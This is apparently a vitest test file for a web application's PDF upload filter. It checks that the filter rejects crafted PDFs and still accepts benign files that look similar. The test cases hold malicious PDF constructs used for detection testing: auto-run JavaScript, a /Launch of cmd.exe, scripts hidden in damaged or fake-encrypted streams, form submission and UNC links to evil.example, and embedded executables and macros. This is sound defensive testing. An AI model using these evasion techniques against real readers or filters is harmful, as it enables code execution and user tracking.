import { constants, deflateSync, inflateSync } from "node:zlib";
import { afterAll, describe, expect, test } from "vitest";
import { testApp } from "#app/testing.ts";
import { atTheWire, none } from "./testing/at-the-wire.ts";
import { aCompoundFile, aDocx, aPdf, aPdfOf, embeddedFile, objectStream } from "./testing/documents.ts";

const app = await testApp();
await app.work();
afterAll(() => app.close());
const acme = await app.tenant("acme");
const lena = await app.as("referrer", acme);
const { put, orphans } = atTheWire(app, "acme");
const send = async (bytes: Buffer) => {
  const answer = await put(lena, `attachments/${lena.personId}/offer.pdf`, bytes);
  return [answer.statusCode, answer.json().error?.reason ?? "taken"];
};
const refused = [422, "files.activeContent"];
const taken = [200, "taken"];

const catalog = "<< /Type /Catalog /Pages 2 0 R >>";
const script = "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>";
const flate = "/Filter /FlateDecode";
const encryption = "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <00> /U <00> >>";
const closedStream = "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n\xff\x00\x01endstream";
const wrongSum = (packed: Buffer) => Buffer.concat([packed.subarray(0, -1), Buffer.from([packed.at(-1)! ^ 255])]);
/** Readers use whatever they could decompress before the damage. */
const wrongEnd = (packed: Buffer) =>
  Buffer.concat([deflateSync(inflateSync(packed), { finishFlush: constants.Z_SYNC_FLUSH }), Buffer.from([7])]);

describe("an attacker cannot run a script or a program when a PDF is opened", () => {
  test.each<[string, Buffer]>([
    ["by an action at opening", aPdfOf("<< /Type /Catalog /OpenAction 2 0 R >>", script)],
    ["by an action in the catalog", aPdfOf("<< /Type /Catalog /OpenAction << /S /JavaScript /JS 2 0 R >> >>")],
    ["by a name written otherwise", aPdfOf(catalog, "<< /S /J#61vaScript /J#53 (1) >>")],
    ["by a list of scripts", aPdfOf("<< /Type /Catalog /Names << /JavaScript 2 0 R >> >>", "<< >>")],
    ["by a program", aPdfOf(catalog, "<< /S /Launch /F (cmd.exe) >>")],
    ["in a packed stream of objects", aPdfOf(catalog, objectStream(["<< /Type /Page >>", script]))],
    ["in a packed stream whose checksum is wrong", aPdfOf(catalog, objectStream([script], flate, wrongSum))],
    [
      "in such a stream, in a file that only says it is encrypted",
      aPdfOf(catalog, "<< /Encrypt 9 0 R >>", objectStream([script], flate, wrongSum)),
    ],
    [
      "in a stream whose end is damaged, in a file with a decoy of an encryption",
      aPdfOf(catalog, encryption, "<< /Encrypt 2 0 R >>", objectStream([script], flate, wrongEnd)),
    ],
    [
      "in a closed stream, in a file that only says it is encrypted",
      aPdfOf(catalog, "<< /Encrypt 9 0 R >>", closedStream),
    ],
    ["behind a string that never ends", aPdfOf(catalog, objectStream(["(", script, ")"]))],
    [
      "in a stream of objects packed twice",
      aPdfOf(catalog, objectStream([script], "/Filter [/ASCIIHexDecode /FlateDecode]")),
    ],
    [
      "in the data of another object",
      aPdfOf(catalog, `<< /Length 90 /Filter /DCTDecode >>\nstream\n7 0 obj ${script} endobj\nendstream`),
    ],
    ["behind a comment", aPdfOf(catalog, `% (stream\n${script}`)],
    ["behind a number and a comment", Buffer.from(`%PDF-1.7\n7 0 % x\nobj${script}\nendobj\n`)],
  ])("rejects a script or program %s", async (_, bytes) => {
    expect(await send(bytes)).toEqual(refused);
  });

  test.each<[string, Buffer]>([
    ["words about it", aPdfOf("<< /Type /Catalog /Title (HTML/CSS/JavaScript /JS \\(1\\) ) /Author <2f4a53> >>")],
    ["a page that shows it", aPdfOf(catalog, "<< /Length 20 >>\nstream\nBT (/JavaScript /JS) Tj ET\nendstream")],
    [
      "pages in a packed stream",
      aPdfOf(catalog, objectStream(["<< /Type /Page >>", "(/JS)", "12", "<< /A [ 1 2 ] >>"])),
    ],
    ["links to pages of the web", aPdfOf(catalog, "<< /S /URI /URI (https://example.com) >>")],
    ["an encrypted stream of objects", aPdfOf(catalog, encryption, "<< /Encrypt 2 0 R >>", closedStream)],
    ["a packed stream whose checksum is wrong", aPdfOf(catalog, objectStream(["<< /Type /Page >>"], flate, wrongSum))],
    ["nothing but noise", aPdf(3_000_000)],
  ])("accepts a PDF with %s", async (_, bytes) => {
    expect(await send(bytes)).toEqual(taken);
  });
});

describe("an attacker cannot learn what a reader types into a PDF, or who the reader is", () => {
  const goTo = (file: string) => `<< /S /GoToR /F ${file} /D [0 /Fit] >>`;
  const unc = "(\\\\\\\\evil.example\\\\share\\\\a.pdf)";
  test.each<[string, Buffer]>([
    ["by a form that is sent", aPdfOf(catalog, "<< /S /SubmitForm /F (https://evil.example) >>")],
    ["by a form that takes data in", aPdfOf(catalog, "<< /S /ImportData /F (a.fdf) >>")],
    ["by a form of another language", aPdfOf("<< /Type /Catalog /AcroForm << /XFA 2 0 R /Fields [] >> >>", "<< >>")],
    ["by a file of another machine", aPdfOf(catalog, goTo(unc))],
    ["by one written in numbers", aPdfOf(catalog, goTo("<5c5c6576696c2e6578616d706c655c61>"))],
    ["by one written in Unicode", aPdfOf(catalog, goTo("<FEFF005c005c006500760069006c005c0061>"))],
    ["by one named in another object", aPdfOf(catalog, goTo("3 0 R"), unc)],
    ["by one named in a packed object", aPdfOf(catalog, goTo("10 0 R"), objectStream([unc]))],
    ["by a file inside one of another machine", aPdfOf(catalog, `<< /S /GoToE /F << /UF ${unc} >> >>`)],
  ])("rejects tracking %s", async (_, bytes) => {
    expect(await send(bytes)).toEqual(refused);
  });

  test.each<[string, Buffer]>([
    [
      "form fields",
      aPdfOf("<< /Type /Catalog /AcroForm << /Fields [2 0 R] >> >>", "<< /FT /Tx /T (name) /V (Ana) /F 4 >>"),
    ],
    [
      "a signature",
      aPdfOf(
        "<< /Type /Catalog /AcroForm << /Fields [2 0 R] /SigFlags 3 >> >>",
        "<< /FT /Sig /V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 9 9 9] /Contents <3082> >> >>",
      ),
    ],
    ["addresses in objects of their own", aPdfOf(catalog, "(https://www.example.com)", "(ana@example.com)", "(Ana)")],
    ["a file of the web", aPdfOf(catalog, "<< /Type /Filespec /FS /URL /F (https://www.example.com) >>")],
    ["a link to the document beside it", aPdfOf(catalog, goTo("(appendix.pdf)"))],
    ["where it was printed from in its title", aPdfOf(catalog, `<< /Title ${unc} >>`)],
  ])("accepts a PDF with %s", async (_, bytes) => {
    expect(await send(bytes)).toEqual(taken);
  });
});

describe("an attacker cannot deliver a program hidden in a PDF", () => {
  const named = (name: string) => `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 3 0 R >> >>`;
  const program = Buffer.alloc(512);
  program.write("MZ", 0, "latin1");
  program.writeUInt32LE(128, 60);
  program.write("PE\0\0", 128, "latin1");
  const vba = aCompoundFile(["Root Entry", "VBA", "dir", "_VBA_PROJECT", "PROJECT"]);
  const invoice = '<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece"/>';
  test.each<[string, Buffer]>([
    ["by its name", aPdfOf(catalog, named("invoice.pdf.exe"), embeddedFile("x"))],
    [
      "by its name in another object",
      aPdfOf(catalog, "<< /UF 4 0 R /EF << /F 3 0 R >> >>", embeddedFile("x"), "(a.js)"),
    ],
    ["by its content", aPdfOf(catalog, named("a.dat"), embeddedFile(program))],
    ["by its content, not called a file", aPdfOf(catalog, named("a.dat"), embeddedFile(program, ""))],
    ["as macros", aPdfOf(catalog, named("a.doc"), embeddedFile(vba))],
    ["as macros in a document", aPdfOf(catalog, named("a.docx"), embeddedFile(aDocx({ "word/vbaProject.bin": vba })))],
    ["as a PDF with a script", aPdfOf(catalog, named("a.pdf"), embeddedFile(aPdfOf(catalog, script)))],
    [
      "packed as no program does",
      aPdfOf(catalog, named("a.dat"), "<< /Type /EmbeddedFile /Filter /ASCIIHexDecode >>\nstream\n4d5a>\nendstream"),
    ],
  ])("rejects a hidden program %s", async (_, bytes) => {
    expect(await send(bytes)).toEqual(refused);
  });

  test.each<[string, Buffer]>([
    [
      "an electronic invoice",
      aPdfOf(catalog, named("factur-x.xml"), embeddedFile(invoice, "/Type /EmbeddedFile /Subtype /text#2Fxml")),
    ],
    ["another PDF", aPdfOf(catalog, named("terms.pdf"), embeddedFile(aPdfOf(catalog)))],
    ["a document", aPdfOf(catalog, named("terms.docx"), embeddedFile(aDocx()))],
    ["a page that begins like a program", aPdfOf(catalog, embeddedFile("MZ 1 0 0 1 0 0 cm", ""))],
  ])("accepts a PDF with %s", async (_, bytes) => {
    expect(await send(bytes)).toEqual(taken);
  });
});

test("a rejected file leaves nothing behind", async () => {
  await expect.poll(orphans).toEqual(none);
});
